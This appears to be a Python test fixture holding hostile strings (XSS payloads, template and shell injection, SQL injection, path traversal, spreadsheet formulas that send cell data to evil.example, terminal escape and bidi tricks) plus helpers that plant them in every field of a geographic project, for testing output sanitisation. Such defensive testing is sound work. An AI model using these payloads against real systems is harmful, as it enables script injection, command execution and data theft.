"""Hostile texts and addresses, and projects that hold one in every field: what tests send through every output.

REFUSED and ALLOWED have one of each kind, for tests that look at each of them for long; STRINGS has them all.
"""

from __future__ import annotations

from typing import Any

from tests.geo.samples import feature, point

REFUSED = {
    "script": "<script>window.pwned = 1</script>",
    "handler": '<img src=x onerror="window.pwned = 1">',
    "svg": "<svg/onload=window.pwned=1>",
    "end of script": "</script><script>window.pwned = 1</script>",
    "end of style": "</style></title></noscript></textarea><script>window.pwned = 1</script>",
    "comment": "<!-- <script> -->",
    "entities": "&lt;img src=x onerror=window.pwned=1&gt; &#60;b&#62;",
    "line separators": "one\u2028window.pwned = 1\u2029two",
    "text direction": "\u202egnp.exe\u202c \u2066left\u2069 \u200f\u200e",
    "controls": "bell\u0007 escape\u001b[31m nul\u0000 delete\u007f next\u0085",
    "lines": "one\r\ntwo\nthree\rfour\tfive",
    "zero width": "in\u200bvisi\ufeffble",
}
"""What no text may hold."""

ALLOWED = {
    "backticks": "`${window.pwned = 1}`",
    "dollar": "${window.pwned = 1} $$ $& \\u0041 \\x41 \\",
    "Jinja": "{{ 7*7 }} {{ cycler.__init__.__globals__ }}",
    "Jinja blocks": "{% raw %} {% endraw %} {# note #} {%- for x in y -%}",
    "JavaScript": "'; window.pwned = 1; //",
    "placeholders": "{n} {date} {shown.many} %s %(n)s {0}",
    "quotes": "\"'`´“”„«»‹›‘’",
    "attribute": '" autofocus onfocus="window.pwned = 1" x=\'',
    "end of CDATA": "]]> a < b > c && d",
    "link": "javascript:window.pwned=1",
    "address": "https://example.org/?a=1&b=2#c",
    "prototype": "__proto__ constructor toString hasOwnProperty",
    "formula": "=1+1 @SUM(A1) +cmd|' /C calc'!A0",
    "right to left": "שלום قازاقستان",
    "emoji": "👩‍👩‍👧‍👦 🇺🇿🇰🇿 é ŭ Ǖ",
}
"""What is strange and still only text."""

LONG = "ж" * 10_000
SURROGATE = "half \ud83d a pair"
HOSTILE = {**REFUSED, **ALLOWED, "long": LONG}

MORE_REFUSED = {
    "nested markup": "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "no blank": "<img/src='x'/onerror=window.pwned=1>",
    "no quotation marks": "<img src=x onerror=window.pwned=1 //",
    "capitals": "<ScRiPt>window.pwned=1</sCrIpT>",
    "body": "<body onload=window.pwned=1>",
    "details": "<details open ontoggle=window.pwned=1>",
    "focus": "<input autofocus onfocus=window.pwned=1>",
    "frame": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "frame of script": "<iframe src=javascript:parent.pwned=1>",
    "object": "<object data=data:text/html,<script>window.pwned=1</script>>",
    "embed": "<embed src=javascript:window.pwned=1>",
    "anchor": "<a href=javascript:window.pwned=1>here</a>",
    "form": "<form action=javascript:window.pwned=1><button>send</button></form>",
    "base": "<base href=https://evil.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "sheet": "<link rel=stylesheet href=https://evil.example/a.css>",
    "style": "<style>*{background:url(https://evil.example/a)}</style>",
    "style in an attribute": "<b style='position:fixed;inset:0;background:red'>over all</b>",
    "video": "<video><source onerror=window.pwned=1></video>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "template": "<template><script>window.pwned=1</script></template>",
    "animation": "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "foreign object": "<svg><foreignObject><body onload=window.pwned=1></foreignObject></svg>",
    "use": "<svg><use href='data:image/svg+xml,<svg id=x onload=window.pwned=1>#x'/></svg>",
    "processing": "<?xml version='1.0'?><?php echo 1 ?>",
    "entity of XML": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hosts'>]>&e;",
    "CDATA": "<![CDATA[<script>window.pwned=1</script>]]>",
    "conditional comment": "<!--[if gte IE 4]><script>window.pwned=1</script><![endif]-->",
    "end of comment": "--!><script>window.pwned=1</script>",
    "end of the data": "</script ><img src=x onerror=window.pwned=1>",
    "end of the data in capitals": "</SCRIPT/><!--<script>",
    "end of a title": "</title><script>window.pwned=1</script>",
    "end of noscript": "</noscript><img src=x onerror=window.pwned=1>",
    "end of SVG": "</text></svg><script>window.pwned=1</script>",
    "plaintext": "<plaintext>",
    "xmp": "<xmp><p>",
    "entity without a name": "&#x6A;avascript:window.pwned=1",
    "entity for a quotation mark": "&quot; onmouseover=&quot;window.pwned=1",
    "entity in numbers": "&#0000060;b&#62;",
    "colours of a terminal": "\u001b[31mred\u001b[0m",
    "title of a terminal": "\u001b]0;owned\u0007",
    "link of a terminal": "\u001b]8;;https://evil.example\u001b\\here\u001b]8;;\u001b\\",
    "clipboard of a terminal": "\u001b]52;c;Y3VybCBldmls\u0007",
    "eight-bit control": "\u009b31mred\u009b0m \u009d0;owned\u009c",
    "cleared screen": "\u001b[2J\u001b[H",
    "backspaces": "safe\b\b\b\bevil",
    "carriage return": "error\rfine ",
    "form feed": "a\fb\vc",
    "null": "a\u0000b",
    "text turned left": "\u202dabc\u202c",
    "embedding": "\u202aabc\u202b",
    "isolates": "\u2067abc\u2068def\u2069",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "word joiner": "in\u2060visible",
    "soft hyphen": "in\u00advisible",
    "Mongolian separator": "in\u180evisible",
    "mark of byte order": "\ufefftext",
    "invisible tags": "text\U000e0068\U000e0069",
    "annotations": "\ufff9text\ufffaabove\ufffb",
    "no character": "\uffff \ufdd0",
}
"""More that no text may hold."""

MORE_ALLOWED = {
    "second half of a link": "data:text/html;base64,PHNjcmlwdD4=",
    "link of a file": "file:///etc/hosts",
    "link of VBScript": "vbscript:msgbox(1)",
    "link with blanks": "j a v a s c r i p t : window.pwned=1",
    "protocol-relative": "//evil.example/a.js",
    "import of CSS": "@import url(https://evil.example/a.css);",
    "expression of CSS": "x:expression(window.pwned=1)",
    "end of a rule": "} * { display: none } a {",
    "url of CSS": "url(javascript:window.pwned=1)",
    "behaviour": "-moz-binding:url(https://evil.example/x)",
    "comment of CSS": "/* */ // --",
    "Jinja with a filter": "{{ ''.__class__.__mro__[1].__subclasses__() | safe }}",
    "Jinja import": "{% import 'os' as os %}{{ os.popen('id').read() }}",
    "Jinja line": "# for x in y:",
    "Angular": "{{constructor.constructor('window.pwned=1')()}}",
    "Vue": "${{7*7}}#{7*7}*{7*7}",
    "format of Python": "{0.__class__.__init__.__globals__} {self} {} %(x)s %s %n",
    "template literal": "${alert`1`}`+window.pwned+`",
    "end of a string": '";window.pwned=1;//',
    "end of a string and a call": "');window.pwned=1;('",
    "backslash at the end": "text\\",
    "backslash and quotation mark": '\\" + window.pwned + \\"',
    "escapes": "\\u003cscript\\u003e \\x3c \\074",
    "JSON": '"},{"id":"evil","name_en":"x"}',
    "JSON of a prototype": '{"__proto__": {"polluted": 1}}',
    "CSV": 'a,"b""c",d;e',
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "formula of DDE": "=cmd|' /C calc'!A0",
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula after a blank": "  =1+1",
    "formula in full width": "＝1+1",
    "formula of Google": '=IMPORTXML(CONCAT("https://evil.example/?",A1:A9),"//a")',
    "field code": "{ INCLUDEPICTURE https://evil.example/a.png }",
    "shell": "$(touch pwned) `touch pwned` ; rm -rf x | cat & echo",
    "options": "--output=/dev/null -rf",
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\CON NUL:AUX \\\\evil.example\\share",
    "database": "'; DROP TABLE projects; -- \" OR 1=1",
    "printf": "%s%s%s%n%x",
    "regular expression": "(a+)+$ [ ( * ? \\",
    "rich's markup": "[red]x[/red] [link=https://evil.example]here[/link] [/]",
    "GitHub's commands": "::error::owned%0A::set-output name=x::y",
    "Markdown": "[here](javascript:window.pwned=1) ![x](https://evil.example/a.png)",
    "emoji with a joiner": "👨‍💻 ‌",
    "stacked marks": "Z" + "\u0310\u031a\u0337\u0321" * 20,
    "widest letters": "﷽𒐫꧅",
    "right to left alone": "مرحبا بالعالم",
    "letters that look alike": "аdmin раураl",
    "beyond the first plane": "𝕳𝖊𝖑𝖑𝖔 \U0010fffd",
    "private letters": "\ue000 \uf8ff",
    "true": "true",
    "null as a word": "null undefined NaN",
    "a number": "1e999",
    "only a dot": ".",
    "only quotation marks": '""',
    "a key of every object": "__proto__",
    "an element's own name": "innerHTML",
}
"""More that is strange and still only text."""

MANY_REFUSED = {**REFUSED, **MORE_REFUSED}
MANY_ALLOWED = {**ALLOWED, **MORE_ALLOWED}
STRINGS = {**HOSTILE, **MORE_REFUSED, **MORE_ALLOWED}
"""All of them, by name; a lone surrogate stands apart, for no UTF-8 holds it."""

NO_LINKS = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    " javascript:window.pwned=1",
    "\tjavascript:window.pwned=1",
    "java\nscript:window.pwned=1",
    "\u0001javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/hosts",
    "blob:https://example.org/1",
    "ftp://example.org/",
    "//example.org/",
    "/relative",
    "#lang=ru",
    "www.example.org",
    "",
    "https://",
    "https:///path",
    "https:example.org",
    "http//example.org",
    "https://user:secret@example.org/",
    "https://example.org@evil.example/",
    "https://exam ple.org/",
    "https://example.org/\u202egro",
    "https://example.org/\u001b[2J",
    'https://example.org/"onclick=window.pwned=1',
    "https://example.org/<b>",
    "https://example.org\\@evil.example/",
    "view-source:https://example.org/",
    "mailto:a@example.org",
    "tel:+998",
    "about:blank",
    "chrome://settings",
    "filesystem:https://example.org/a",
    "jar:https://example.org/a!/b",
    "ws://example.org/",
    "intent://example.org#Intent;end",
    "data:image/svg+xml,<svg onload=window.pwned=1>",
    "DATA:text/html;base64,PHNjcmlwdD4=",
    "javascript://example.org/%0Awindow.pwned=1",
    "https\u200b://example.org/",
    "ｊavascript:window.pwned=1",
)

LINKS = ("https://example.org/a?b=%22c%22&d=1#e", "HTTP://EXAMPLE.ORG", "https://мысал.қаз/")


SHOWN = (
    "name_en", "summary_en", "place_en", "partners.name_en", "value.label_en", "figures.label_en", "disputes.text_en",
    "sources.title", "sources.publisher", "unknown field",
)  # fmt: skip
"""The text fields that a card in English shows."""


def hostile(text: str, identifier: str, at: tuple[float, float] = (66.0, 48.0)) -> Any:
    """A project with a text in every one of its text fields, each after the field's own path."""

    def put(path: str) -> str:
        return f"{path} {text}"

    def versions(path: str) -> dict[str, str]:
        return {f"{path.rpartition('.')[2]}_{tag}": put(f"{path}_{tag}") for tag in ("en", "ru", "uz", "kk")}

    return feature(
        point(*at),
        id=identifier,
        **versions("name"),
        **versions("summary"),
        **versions("place"),
        location_source=put("location_source"),
        partners=[{"name": put("partners.name"), **versions("partners.name"), "country": "UZ", "role": "partner"}],
        value=[{"amount": 5, "currency": "USD", "kind": "spent", "date": "2025", **versions("value.label")}],
        figures=[{"value": 5, "unit": "jobs", "date": "2025", **versions("figures.label")}],
        disputes=[{"field": "status", **versions("disputes.text")}],
        sources=[{"title": put("sources.title"), "publisher": put("sources.publisher"), "supports": ["status"]}],
        images=[
            {"src": "a.png", "credit": put("images.credit"), "licence": put("images.licence"), **versions("images.alt")}
        ],
        **{"unknown field": put("unknown field")},
    )


def texts(value: Any, path: str = "") -> list[str]:
    """Paths, as a problem names them, of the texts of a hostile project."""
    if isinstance(value, dict):
        return [found for key, entry in value.items() for found in texts(entry, f"{path}.{key}".removeprefix("."))]
    if isinstance(value, list):
        return [found for number, entry in enumerate(value) for found in texts(entry, f"{path}[{number}]")]
    return [path] if isinstance(value, str) and value.startswith(path.replace("[0]", "") + " ") else []


def grouped(size: int = 12) -> list[str]:
    """All the texts, some to a line: for outputs that would take long to show each on a page of its own."""
    texts = [text for text in STRINGS.values() if text != LONG]
    return [" | ".join(texts[at : at + size]) for at in range(0, len(texts), size)]
